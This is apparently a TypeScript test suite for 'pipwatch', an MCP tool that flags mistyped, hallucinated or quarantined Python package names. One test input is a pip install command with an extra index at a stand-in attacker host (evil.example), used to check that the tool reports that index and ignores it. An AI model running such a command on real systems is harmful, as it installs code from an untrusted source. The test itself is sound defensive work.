// `pipwatch mcp` driven by the official MCP SDK's own Client over stdio, against the BUNDLED CLI
// (dist/cli.js): tool listing, offline findings for names and for an install command, bad input,
// and an online run against the fake index on 127.0.0.1 (a hallucinated name is an error).
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { FIXTURES } from '../fake-index/fixtures';
import { CLI, runCli } from './helpers/cli';
import { fakeIndex, tempDirs } from './helpers/fixtures';
import { HERMETIC_ENV } from './helpers/hermetic-env';
import { ensureBuilt, ROOT } from './helpers/lsp-client';

const tempDir = tempDirs('mcp');

interface Pkg {
  input: string;
  name?: string;
  verdict: string;
  lookup: string;
  findings: { code: string; severity: string; message: string; fix?: string }[];
}

async function connect(args: string[] = [], env: Record<string, string> = {}): Promise<{ client: Client; stderr: () => string }> {
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: [CLI, 'mcp', ...args],
    env: { ...(process.env as Record<string, string>), ...(HERMETIC_ENV as Record<string, string>), ...env },
    stderr: 'pipe',
  });
  let err = '';
  transport.stderr?.on('data', (d: Buffer) => (err += d.toString()));
  const client = new Client({ name: 'pipwatch-test', version: '1.0.0' });
  await client.connect(transport);
  return { client, stderr: () => err };
}

async function check(client: Client, args: Record<string, unknown>): Promise<{ packages: Pkg[]; text: string; isError: boolean; raw: Record<string, unknown> }> {
  const r = await client.callTool({ name: 'check_packages', arguments: args });
  const text = (r.content as { type: string; text: string }[]).map((c) => c.text).join('\n');
  const sc = (r.structuredContent ?? {}) as { packages?: Pkg[] };
  return { packages: sc.packages ?? [], text, isError: r.isError === true, raw: sc as Record<string, unknown> };
}

describe('pipwatch mcp (offline by default)', () => {
  let client: Client;
  before(async () => {
    ensureBuilt();
    ({ client } = await connect());
  });
  after(async () => {
    await client.close();
  });

  it('lists check_packages with its input schema', async () => {
    const tools = await client.listTools();
    const t = tools.tools.find((x) => x.name === 'check_packages');
    assert.ok(t, 'check_packages is listed');
    assert.deepEqual(Object.keys(t.inputSchema.properties ?? {}).sort(), ['command', 'packages']);
    assert.ok(t.outputSchema, 'declares its structured output');
  });

  it('answers each name with findings, as JSON and text', async () => {
    const r = await check(client, { packages: ['reqeusts', 'requests>=2.31', 'sklearn', 'fastapi[standard]>=0.115', 'git+https://github.com/a/b'] });
    assert.equal(r.isError, false);
    assert.deepEqual(r.packages.map((p) => [p.input, p.verdict]), [
      ['reqeusts', 'error'],
      ['requests>=2.31', 'ok'],
      ['sklearn', 'warning'],
      ['fastapi[standard]>=0.115', 'ok'],
      ['git+https://github.com/a/b', 'not-checked'],
    ]);
    assert.equal(r.packages[0]!.findings[0]!.code, 'PW101');
    assert.equal(r.packages[0]!.findings[0]!.fix, 'requests');
    assert.equal(r.packages[2]!.findings[0]!.fix, 'scikit-learn');
    assert.equal(r.packages[0]!.lookup, 'offline');
    assert.equal(r.raw.mode, 'offline');
    assert.match(r.text, /reqeusts: error\n {2}error PW101 .*typo of 'requests'/);
    assert.match(r.text, /Checked offline/);
  });

  it('reads the names of an install command; index URLs in it are reported, not used', async () => {
    const r = await check(client, { command: 'sudo pip install -U --extra-index-url https://evil.example/simple "colorama>=0.4" nunpy -r requirements.txt' });
    assert.deepEqual(r.packages.map((p) => [p.input, p.verdict]), [['colorama>=0.4', 'ok'], ['nunpy', 'warning']]);
    assert.deepEqual(r.raw.ignoredIndexes, ['https://evil.example/simple']);
    assert.match(r.text, /names the index https:\/\/evil\.example\/simple/);
  });

  it('bad input is a tool error, not a crash', async () => {
    assert.equal((await check(client, {})).isError, true);
    assert.equal((await check(client, { packages: ['a'], command: 'pip install b' })).isError, true);
    assert.equal((await check(client, { packages: Array.from({ length: 201 }, (_, i) => `p${i}`) })).isError, true);
    const empty = await check(client, { command: 'echo hello' });
    assert.deepEqual(empty.packages, []);
    assert.match(empty.text, /no package names found/);
    // Still alive after all of that.
    assert.equal((await check(client, { packages: ['requests'] })).packages[0]!.verdict, 'ok');
  });
});

it('usage errors: mcp takes no files; --online belongs to mcp', async () => {
  ensureBuilt();
  const a = await runCli(['mcp', 'somefile'], { cwd: ROOT });
  assert.equal(a.code, 2);
  assert.match(a.stderr, /takes no files/);
  const b = await runCli(['check', '--online', '.'], { cwd: ROOT });
  assert.equal(b.code, 2);
  assert.match(b.stderr, /--online is for pipwatch mcp/);
});

describe('pipwatch mcp --online against the fake index', () => {
  const fake = fakeIndex();
  let cacheDir: string;
  before(() => {
    ensureBuilt();
    cacheDir = tempDir();
  });

  it('offline makes no request; --online flags a name no index has as an error with suggestions', async () => {
    const off = await connect(['--index-url', fake.simpleUrl, '--osv-url', fake.osvUrl, '--cache-dir', cacheDir], { PIPWATCH_PUBLIC_INDEX_URL: fake.simpleUrl });
    fake.reset();
    await check(off.client, { packages: [FIXTURES.missing] });
    assert.equal(fake.requests.length, 0, 'offline: no request');
    await off.client.close();

    const on = await connect(['--online', '--index-url', fake.simpleUrl, '--osv-url', fake.osvUrl, '--cache-dir', cacheDir], { PIPWATCH_PUBLIC_INDEX_URL: fake.simpleUrl });
    const r = await check(on.client, { packages: [FIXTURES.missing, FIXTURES.active, FIXTURES.quarantined] });
    await on.client.close();
    assert.equal(r.raw.mode, 'online');
    const [missing, active, quarantined] = r.packages;
    assert.equal(missing!.verdict, 'error', JSON.stringify(missing));
    assert.ok(missing!.findings.some((f) => f.code === 'PW201'), JSON.stringify(missing));
    assert.equal(missing!.lookup, 'complete');
    // Index rules may add hints about a real project; nothing at warning or above.
    assert.ok(['ok', 'hint', 'information'].includes(active!.verdict), JSON.stringify(active));
    assert.ok(quarantined!.findings.some((f) => f.code === 'PW203' && f.severity === 'error'), JSON.stringify(quarantined));
    assert.ok(fake.requests.length > 0);
  });

  it('an unreachable index is a visible fact per name, never a clean answer', async () => {
    const dead = 'http://127.0.0.1:9/simple/';
    const on = await connect(['--online', '--index-url', dead, '--no-osv', '--cache-dir', tempDir()], { PIPWATCH_PUBLIC_INDEX_URL: dead });
    const r = await check(on.client, { packages: ['some-unseen-name-abc'] });
    await on.client.close();
    assert.match(r.packages[0]!.lookup, /^incomplete/);
    assert.match(r.text, /index lookup incomplete/);
  });
});
